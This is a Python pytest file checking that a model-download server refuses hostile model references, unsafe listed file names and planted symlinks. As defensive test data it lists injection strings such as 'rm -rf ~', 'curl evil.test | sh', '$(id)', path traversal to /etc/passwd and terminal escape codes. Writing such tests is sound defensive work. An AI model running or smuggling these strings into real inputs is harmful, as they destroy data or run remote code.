"""Names a hostile person or hub may give: references on the command line or in an API
body, file names in a listing, symlinks planted in the models folder. None may put a
file outside the models folder, and each refusal is one printable sentence."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from slm_server.pull import files as disk
from slm_server.pull.choose import RemoteFile, choose
from slm_server.pull.errors import PullError
from slm_server.pull.reference import HfReference, OllamaReference, parse_reference, safe_relative
from slm_server.pull.run import pull
from slm_server.settings import PullSettings

HOSTILE_REFERENCES = [
    "owner/repo; rm -rf ~",
    "owner/repo && curl evil.test | sh",
    "$(id)/repo",
    "`id`/repo",
    "owner/repo|tee /tmp/x",
    "owner/repo>/etc/passwd",
    "owner/re\x00po",
    "owner/repo\x1b[2J",
    "own\ner/repo",
    "owner/\u202eoper",
    "owner/rep\u200bo",
    "o" * 600 + "/repo",
    "owner/" + "r" * 97,
    "owner/repo/" + "a/" * 300 + "x.gguf",
    "owner/repo/../../etc/x.gguf",
    "owner/repo/a\\..\\..\\x.gguf",
    "owner/repo//etc/x.gguf",
    "owner/repo/./x.gguf",
    "owner/repo/x.gguf\x00.txt",
    "owner/repo/C:/x.gguf",
    "owner/repo/x.gguf\u202e",
    "owner/repo/x.exe",
    "../repo",
    "owner/..",
    "owner/repo@../../main",
    "owner/repo@main;id",
    "owner/repo:Q4_K_M;id",
    "owner/repo:../x",
    "file:///etc/passwd",
    "https://evil.test/owner/repo",
    "http://huggingface.co.evil.test/owner/repo",
    "hf:",
    "ollama:",
    "ollama:registry.ollama.ai/library/gemma3:270m",
    "ollama:evil.test:5000/gemma3",
    "ollama://evil.test/gemma3",
    "ollama:../gemma3",
    "ollama:gemma3:../../x",
    "ollama:gemma3:270m;id",
    "ollama:Gemma3",
    "ollama:gemma3:" + "t" * 200,
    "ollama:gemma3\x1b]0;x\x07",
    "",
    "   ",
    "\t\n",
]


@pytest.mark.parametrize("text", HOSTILE_REFERENCES)
def test_a_hostile_reference_is_one_printable_refusal(text: str) -> None:
    with pytest.raises(PullError) as raised:
        parse_reference(text)
    assert raised.value.kind in ("bad_reference", "unsafe_name")
    message = str(raised.value)
    assert message.isprintable() and len(message) < 2000, message


def test_a_refused_reference_asks_no_hub_and_writes_nothing(tmp_path: Path) -> None:
    # Nothing answers at this address: a request would be a hub_error, not a refusal.
    settings = PullSettings(models_dir=tmp_path / "models", ollama_registry="http://127.0.0.1:9")
    for text in HOSTILE_REFERENCES:
        with pytest.raises(PullError) as raised:
            pull(text, settings, lambda _event: None)
        assert raised.value.kind in ("bad_reference", "unsafe_name"), text
    assert not (tmp_path / "models").exists()


def test_a_host_like_ollama_namespace_is_a_namespace_on_the_configured_registry() -> None:
    ref = parse_reference("ollama:evil.test/gemma3")
    assert ref == OllamaReference("evil.test", "gemma3", "latest")
    # It is asked of SLM_OLLAMA_REGISTRY as a namespace (ollama._Registry's base), never
    # as a host: the tests of the hostile registry show that base in use.


@pytest.mark.parametrize(
    "name",
    [
        "../evil-Q4_K_M.gguf",
        "a/../../evil-Q4_K_M.gguf",
        "/etc/evil-Q4_K_M.gguf",
        "a\\..\\..\\evil-Q4_K_M.gguf",
        "evil\x00-Q4_K_M.gguf",
        "evil\x1b[2J-Q4_K_M.gguf",
        "evil\x9b31m-Q4_K_M.gguf",  # C1 CSI: an escape to some terminals
        "evil\u202eflugg.-Q4_K_M.gguf",  # right-to-left override
        "ev\u200bil-Q4_K_M.gguf",  # zero-width space
        "evil\u2028-Q4_K_M.gguf",  # a line separator
        "C:/evil-Q4_K_M.gguf",
        "a//evil-Q4_K_M.gguf",
        "./evil-Q4_K_M.gguf",
        "x" * 1100 + "-Q4_K_M.gguf",
    ],
)
def test_a_listed_model_with_a_hostile_name_is_refused(name: str) -> None:
    with pytest.raises(PullError) as raised:
        choose("o/r", [RemoteFile(name, 10, None)], "Q4_K_M", None)
    assert raised.value.kind == "unsafe_name"
    assert str(raised.value).isprintable()


@pytest.mark.parametrize(
    "name",
    [
        "\uff0e\uff0e/\uff0e\uff0e/x-Q4_K_M.gguf",  # fullwidth dots: not dots to a filesystem
        "..\u2215..\u2215x-Q4_K_M.gguf",  # a division slash: one name, not three
        "..x/x..-Q4_K_M.gguf",
        "...-Q4_K_M.gguf",
        "模型/中文-Q4_K_M.gguf",
    ],
)
def test_a_look_alike_name_is_kept_but_stays_inside_the_models_folder(
    tmp_path: Path, name: str
) -> None:
    choice = choose("o/r", [RemoteFile(name, 10, None)], "Q4_K_M", None)
    final = disk.within(tmp_path, f"o/r/{choice.parts[0].path}")
    assert tmp_path.resolve() in final.resolve().parents


def test_thousands_of_listed_files_are_chosen_from_quickly_and_named_briefly() -> None:
    files = [RemoteFile(f"junk/m{i}-Q{i % 9}_{i}.gguf", 10, None) for i in range(20_000)]
    started = time.monotonic()
    with pytest.raises(PullError) as raised:
        choose("o/r", files, None, None)
    assert time.monotonic() - started < 5.0
    assert raised.value.kind == "ambiguous"
    assert len(str(raised.value)) < 2000 and "more" in str(raised.value)
    for quant, file in (("IQ9_XXS", None), (None, "junk/none.gguf")):
        with pytest.raises(PullError) as missing:
            choose("o/r", files, quant, file)
        assert missing.value.kind == "not_found" and len(str(missing.value)) < 2000


def test_several_files_of_one_quantization_are_named_briefly() -> None:
    files = [RemoteFile(f"d{i}/m-Q4_K_M.gguf", 10, None) for i in range(5000)]
    with pytest.raises(PullError) as raised:
        choose("o/r", files, "Q4_K_M", None)
    assert raised.value.kind == "ambiguous" and len(str(raised.value)) < 2000


def test_a_symlink_planted_in_the_models_folder_is_refused(tmp_path: Path) -> None:
    root, outside = tmp_path / "models", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / "acme").symlink_to(outside)
    with pytest.raises(PullError) as raised:
        disk.within(root, "acme/tiny-GGUF/tiny-Q4_K_M.gguf")
    assert raised.value.kind == "unsafe_name"

    (root / "owner" / "repo").mkdir(parents=True)
    (root / "owner" / "repo" / "m.gguf").symlink_to(outside / "m.gguf")
    with pytest.raises(PullError):
        disk.within(root, "owner/repo/m.gguf")
    (root / "ollama").symlink_to("/")
    with pytest.raises(PullError):
        disk.within(root, "ollama/m-1.gguf")
    (root / "loop").symlink_to(root / "loop")
    with pytest.raises((PullError, RuntimeError, OSError)):
        disk.within(root, "loop/m.gguf")


def test_a_symlink_that_stays_inside_and_a_models_folder_that_is_one_are_allowed(
    tmp_path: Path,
) -> None:
    real = tmp_path / "real-models"
    (real / "shared").mkdir(parents=True)
    root = tmp_path / "models"
    root.symlink_to(real)
    (real / "acme").symlink_to(real / "shared")
    assert disk.within(root, "acme/x.gguf") == root / "acme/x.gguf"


def test_a_name_too_long_for_the_filesystem_is_a_refusal_not_a_crash(tmp_path: Path) -> None:
    name = "x" * 300 + "-Q4_K_M.gguf"  # under 1024 characters, over NAME_MAX
    safe_relative(name)
    final = disk.within(tmp_path, f"o/r/{name}")
    assert not disk.already_there(final, 10, None)
    ref = parse_reference(f"o/r/{name}")
    assert isinstance(ref, HfReference) and ref.file == name
